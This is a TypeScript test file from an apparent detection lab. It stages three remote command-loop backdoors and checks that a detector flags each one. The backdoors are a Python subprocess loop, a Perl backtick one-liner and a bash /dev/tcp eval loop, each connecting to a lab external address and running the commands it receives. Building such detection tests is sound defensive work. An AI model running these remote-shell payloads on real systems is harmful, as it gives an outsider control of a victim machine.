// Command loops: the script holds the connection and runs each line it receives as a program,
// writing the output back. No shell sits on the socket and every program lives milliseconds, so
// only the script's reaped-children count tells it apart from any networked one-liner. Each uses
// a different language and way to run the command (popen, subprocess with a shell, backticks,
// eval in a /dev/tcp read loop) and a different code source (inline, a file in a temp dir).
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Alert } from '../../src-shared/model';
import { ADDR } from './lab';
import { mentions } from './scenario-kit';
import { scenario, shellListeners, victimScript } from './scenarios-session4-shells';

const PORTS = { python: 6031, perl: 6032, bash: 6033 };

const loopOf =
  (port: number, name: string) =>
  (alert: Alert): boolean =>
    alert.techniqueId === 'T1059.004' && mentions(alert, `${ADDR.ext}:${port}`) && alert.process?.name === name;

const PYTHON_LOOP = (port: number): string => `import socket, subprocess
s = socket.create_connection(("${ADDR.ext}", ${port}))
for line in s.makefile("r"):
    r = subprocess.run(line, shell=True, capture_output=True)
    s.sendall(r.stdout + r.stderr)
`;

export const COMMAND_LOOP_SCENARIOS = [
  scenario({
    id: 'command-loop-python-file',
    title: `python3 <tmp>/sync.py: each line from ${ADDR.ext}:${PORTS.python} through subprocess.run(shell=True), output sent back`,
    mustName: `python3 and ${ADDR.ext}:${PORTS.python}`,
    needs: ['python3'],
    windowMs: 12_000,
    stage: async (lab) => {
      const script = join(lab.tmp, 'sync.py');
      writeFileSync(script, PYTHON_LOOP(PORTS.python));
      return victimScript(lab, `exec python3 ${script}`, loopOf(PORTS.python, 'python3'), await shellListeners(lab, [PORTS.python]));
    },
  }),
  scenario({
    id: 'command-loop-perl-backticks',
    title: `perl -MIO::Socket -e: each line from ${ADDR.ext}:${PORTS.perl} run in backticks, output printed back`,
    mustName: `perl and ${ADDR.ext}:${PORTS.perl}`,
    needs: ['perl'],
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `exec perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"${ADDR.ext}:${PORTS.perl}") or die; while(<$s>){print $s \`$_\`}'`,
        loopOf(PORTS.perl, 'perl'),
        await shellListeners(lab, [PORTS.perl]),
      ),
  }),
  scenario({
    id: 'command-loop-bash-dev-tcp-read',
    title: `bash -c: exec 3<>/dev/tcp/${ADDR.ext}/${PORTS.bash}, then while read line <&3: eval it with output to fd 3 (stdio stays on the terminal)`,
    mustName: `bash and ${ADDR.ext}:${PORTS.bash}`,
    windowMs: 12_000,
    stage: async (lab) =>
      victimScript(
        lab,
        `exec bash -c 'exec 3<>/dev/tcp/${ADDR.ext}/${PORTS.bash}; while read -r line <&3; do eval "$line" >&3 2>&1; done'`,
        loopOf(PORTS.bash, 'bash'),
        await shellListeners(lab, [PORTS.bash]),
      ),
  }),
];
